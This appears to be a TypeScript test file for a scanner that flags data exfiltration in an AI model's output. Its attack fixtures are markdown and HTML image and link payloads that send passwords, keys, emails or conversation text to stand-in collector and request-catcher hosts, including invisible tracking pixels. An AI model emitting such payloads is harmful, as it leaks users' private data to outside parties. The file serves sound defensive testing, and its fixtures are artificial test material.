import { describe, expect, it } from 'vitest';
import { createScanner } from '../scanner.js';
import type { Severity } from '../types.js';
import { urlDataReason } from './exfiltration.js';

// Layer 1 alone: these tests are about the rules, not about what the model adds.
const scanner = createScanner({ layers: ['l1'] });
const ACTING: readonly Severity[] = ['medium', 'high', 'critical'];

function scanOutput(text: string): string[] {
  return scanner
    .scan({ kind: 'output', text })
    .findings.filter(
      (finding) => finding.category === 'data_exfiltration' && ACTING.includes(finding.severity),
    )
    .map((finding) => finding.ruleId);
}

describe('what a URL carries', () => {
  it.each([
    ['https://c.example/p.png?d=the+user+said+the+launch+is+friday', 'prose'],
    ['https://c.example/p.png?k=sk-live-4f9a8c7d6e', 'secret'],
    ['https://c.example/p.png?b=U2VjcmV0IG1lZXRpbmcgbm90ZXM=', 'encoded'],
    ['https://c.example/p.png?to=alice.smith%40example.org', 'email'],
    ['https://c.example/p.png?q=[CHAT_HISTORY]', 'template'],
    ['https://c.example/u/bob.jones%40example.org.png', 'email'],
  ])('%s carries %s', (url, reason) => {
    expect(urlDataReason(url)).toBe(reason);
  });

  it.each([
    'https://img.shields.io/badge/License-Apache%202.0-blue.svg',
    'https://img.shields.io/github/actions/workflow/status/org/repo/ci.yml?branch=main&style=flat-square',
    'https://codecov.io/gh/org/repo/branch/main/graph/badge.svg?token=AB12CD34EF',
    'https://user-images.githubusercontent.com/1234/0f8fad5b-d9cb-469f-a165-70867728950e.png',
    'https://api.star-history.com/svg?repos=org/repo&type=Date',
    './docs/architecture.png',
    'https://img.shields.io/badge/logo-x?logo=data:image/svg+xml;base64,PHN2ZyB2aWV3Qm94PSIwIDAi',
  ])('%s carries nothing', (url) => {
    expect(urlDataReason(url)).toBeNull();
  });
});

describe('exfiltration rules: attacks', () => {
  it.each([
    [
      'Done! ![status](https://collector.example/pixel.png?d=the+user+said+the+password+is+hunter2)',
      'exfil.markdown-image-data',
    ],
    ['![](https://collector.example/log?k=sk-live-4f9a8c7d6e)', 'exfil.markdown-image-data'],
    ['![a](https://collector.example/i.png?q={conversation})', 'exfil.markdown-image-data'],
    [
      'See below.\n\n![logo][1]\n\n[1]: https://collector.example/l.png?c=notes+from+the+board+meeting+today',
      'exfil.markdown-image-data',
    ],
    [
      '<img src="https://collector.example/a.gif?s=Q29uZmlkZW50aWFsIGRhdGE=">',
      'exfil.html-image-data',
    ],
    [
      '<img src="https://tracker.example/t.gif" width="1" height="1" alt="">',
      'exfil.invisible-image',
    ],
    ['<img style="display:none" src="https://tracker.example/t.gif">', 'exfil.invisible-image'],
    [
      '[open report](https://collector.example/c?u=carol%40example.org)',
      'exfil.markdown-link-data',
    ],
    ['![x](https://abc123.oastify.com/p.png)', 'exfil.request-catcher'],
    [
      '[details](https://webhook.site/3f1c0a7e-0000-4000-8000-000000000000)',
      'exfil.request-catcher',
    ],
  ])('flags %j as %s', (text, ruleId) => {
    expect(scanOutput(text)).toContain(ruleId);
  });
});

describe('exfiltration rules: ordinary markdown', () => {
  it.each([
    '![CI](https://img.shields.io/github/actions/workflow/status/org/repo/ci.yml?branch=main&style=flat-square)',
    '![license](https://img.shields.io/badge/license-MIT-informational?style=flat)',
    '![Weight License](https://img.shields.io/badge/Weight%20License-CC%20By%20NC%204.0-red)',
    '![diagram](./docs/architecture.png)',
    '![Go Reference](https://pkg.go.dev/badge/github.com/org/module.svg)',
    'Search for it: [results](https://www.google.com/search?q=how+to+center+a+div+in+css)',
    '[docs](https://example.com/docs?page=getting-started&lang=en)',
    '<img src="https://example.com/logo.png" width="120" alt="Logo">',
    // Inside a code fence the image is shown as text, never fetched.
    '```md\n![x](https://collector.example/p.png?d=only+an+example+in+code)\n```',
  ])('does not act on %j', (text) => {
    expect(scanOutput(text)).toEqual([]);
  });
});
